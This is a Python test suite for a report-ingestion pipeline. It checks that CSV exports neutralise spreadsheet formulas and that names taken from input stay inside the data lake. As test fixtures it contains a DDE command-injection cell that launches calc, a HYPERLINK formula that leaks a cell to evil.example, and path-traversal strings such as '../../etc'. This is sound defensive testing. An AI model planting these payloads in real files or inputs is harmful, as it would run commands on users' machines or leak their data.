"""Safe output: CSV written for people cannot run as spreadsheet formulas, and names taken from
user input (organisations, source file names) never lead outside the lake."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pipelines.cli import main
from pipelines.core.errors import FollowupError
from pipelines.lake.store import Lake, org_slug, safe_file_name

FORMULA = re.compile(r"^(?:[=+@\t\r]|-\S)")
# Cells as a hostile report could hold them: each starts a formula in Excel or LibreOffice.
HOSTILE = {
    "activity": '=HYPERLINK("http://evil.example/?"&A1;"Klicka här")',
    "unit": "+46 21 17 30 00",
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "goal_area": "-2+3",
}
HARMLESS = {"activity": "- en punkt i en lista", "comment": "Pågår enligt plan; 50 % klart."}


def _report(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(["Målområde", "Aktivitet", "Verksamhet", "Status", "Kommentar"])
        writer.writerow([HOSTILE["goal_area"], HOSTILE["activity"], HOSTILE["unit"], "Grönt",
                         HOSTILE["comment"]])  # fmt: skip
        writer.writerow(
            ["Hållbarhet", HARMLESS["activity"], "Välfärd", "Gult", HARMLESS["comment"]]
        )
        writer.writerow(["Hållbarhet", "\tTabb först", "Välfärd", "Rött", "\rvagnretur"])
    return path


def _csv_cells(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode()), "UTF-8 with BOM so Excel shows å ä ö"
    return list(csv.DictReader(data.decode("utf-8-sig").splitlines(keepends=True)))


def _assert_defused(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not FORMULA.match(column), column
            assert not FORMULA.match(value or ""), (column, value)


def test_parse_out_csv_defuses_formulas_and_keeps_the_text(tmp_path):
    report = _report(tmp_path / "region-x_2022-07-07.csv")
    out = tmp_path / "rows.csv"
    assert main(["parse", str(report), "--out", str(out)]) == 0
    rows = _csv_cells(out)
    _assert_defused(rows)
    first, second, third = rows
    for column, text in HOSTILE.items():
        assert first[column] == "'" + text  # defused by one apostrophe, otherwise as written
    for column, text in HARMLESS.items():
        assert second[column] == text  # "- " with a space and ordinary text stay as they are
    assert third["activity"] == "Tabb först"  # the reader strips cells: no leading tab survives
    assert third["comment"] == "vagnretur"


def test_parse_out_parquet_keeps_the_data_as_written(tmp_path):
    report = _report(tmp_path / "region-x_2022-07-07.csv")
    out = tmp_path / "rows.parquet"
    assert main(["parse", str(report), "--out", str(out)]) == 0
    first = pl.read_parquet(out).row(0, named=True)
    for column, text in HOSTILE.items():
        assert first[column] == text  # Parquet is data, not a spreadsheet: nothing is changed


def test_sql_out_csv_defuses_formulas_in_cells_and_column_names(tmp_path):
    lake = tmp_path / "lake"
    report = _report(tmp_path / "region-x_2022-07-07.csv")
    assert main(["ingest", str(report), "--org", "region-x", "--lake", str(lake)]) == 0
    out = tmp_path / "q.csv"
    query = (
        "SELECT activity, unit, comment, goal_area, '=1+1' AS \"=cmd|' /C calc'!A0\" "
        "FROM snapshots ORDER BY source_row"
    )
    assert main(["sql", query, "--lake", str(lake), "--out", str(out)]) == 0
    rows = _csv_cells(out)
    _assert_defused(rows)
    assert len(rows) == 3
    assert rows[0]["activity"] == "'" + HOSTILE["activity"]
    assert rows[1]["activity"] == HARMLESS["activity"]
    assert rows[0]["'=cmd|' /C calc'!A0"] == "'=1+1"


# ---------------------------------------------------------------------------- names from input

NAMES = settings(
    derandomize=True,
    database=None,
    deadline=None,
    max_examples=300,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
hostile_text = st.one_of(
    st.text(max_size=300),
    st.lists(
        st.sampled_from(
            ["..", "/", "\\", "\x00", "\n", "\r", ".", "å", "ä", "ö", "漢", "\u202e", "~", "$", " "]
            + ["etc", "passwd", ".csv", "C:", "org=x", "period=2022-Q2", "*", "?", "|", "'"]
        ),
        max_size=150,
    ).map("".join),
)


@NAMES
@given(org=hostile_text)
@example(org="../../etc")
@example(org="region\x00x")
@example(org="..")
@example(org="Region Västmanland\n")
def test_org_names_are_refused_or_become_a_plain_slug_inside_the_lake(tmp_path, org):
    lake = Lake(tmp_path / "lake")
    try:
        slug = org_slug(org)
    except FollowupError as error:
        assert "\n" not in str(error).strip()
        return
    assert re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", slug), slug
    folder = lake.partition_dir("raw", org, "2022-Q2")
    assert folder == lake.root / "raw" / f"org={slug}" / "period=2022-Q2"


@NAMES
@given(name=hostile_text)
@example(name="../../x.csv")
@example(name="..\\..\\x.csv")
@example(name="a\x00b.csv")
@example(name="rapport\n2022.csv")
@example(name="...")
@example(name="/etc/passwd")
@example(name="漢" * 85 + ".csv")  # 259 bytes of UTF-8: over a file name's 255 bytes
@example(name="å" * 126 + ".csv")  # 256 bytes
def test_file_names_from_input_stay_one_short_plain_name(tmp_path, name):
    cleaned = safe_file_name(name)
    assert cleaned and not cleaned.startswith(".")
    assert not set(cleaned) & {"/", "\\", "\x00", "\n", "\r"}
    stored = f"{'0' * 12}-{cleaned}"
    aside = f".{stored}.tmp-01234567"  # the name an atomic write uses before its rename
    assert len(aside.encode("utf-8")) <= 255, len(aside.encode("utf-8"))
    folder = tmp_path / "raw"
    assert (folder / stored).resolve().parent == folder.resolve()


@pytest.mark.parametrize(
    "name",
    [
        "rapport\n=cmd.csv",  # a newline and a formula in a real file name
        "..rapport.csv",
        "漢" * 83 + ".csv",  # 253 bytes: as long as the file system allows
        "ö" * 125 + ".csv",
    ],
)
def test_hostile_source_file_names_are_stored_inside_the_raw_partition(tmp_path, name):
    import datetime as dt

    source = tmp_path / "in" / name
    source.parent.mkdir()
    source.write_text("Aktivitet;Status\nA;Grönt\n", encoding="utf-8")
    lake = Lake(tmp_path / "lake")
    registration, changed = lake.register_raw(
        source, "region-x", "2022-Q2", dt.date(2022, 7, 7), "csv"
    )
    stored = lake.root / registration.stored_as
    assert changed and stored.read_bytes() == source.read_bytes()
    assert stored.parent == lake.partition_dir("raw", "region-x", "2022-Q2")
    assert registration.source_file == name  # the original name is kept, as data


def test_decomposed_swedish_file_names_keep_their_letters():
    """macOS writes file names decomposed (a + combining ring); they must not become a_."""
    assert safe_file_name("rapport_va\u0308stera\u030as.csv") == "rapport_västerås.csv"
    long_name = "Uppföljning " * 30 + ".csv"
    assert safe_file_name(long_name).endswith(".csv")  # shortened, the extension kept


def test_an_out_path_that_cannot_be_written_is_one_line(tmp_path, capsys):
    report = _report(tmp_path / "region-x_2022-07-07.csv")
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    capsys.readouterr()
    assert main(["parse", str(report), "--out", str(blocker / "rows.csv")]) == 2
    error = capsys.readouterr().err
    assert error.startswith(f"error: {blocker}: "), error  # "File exists": it is no folder
    assert len(error.strip().splitlines()) == 1 and "Traceback" not in error
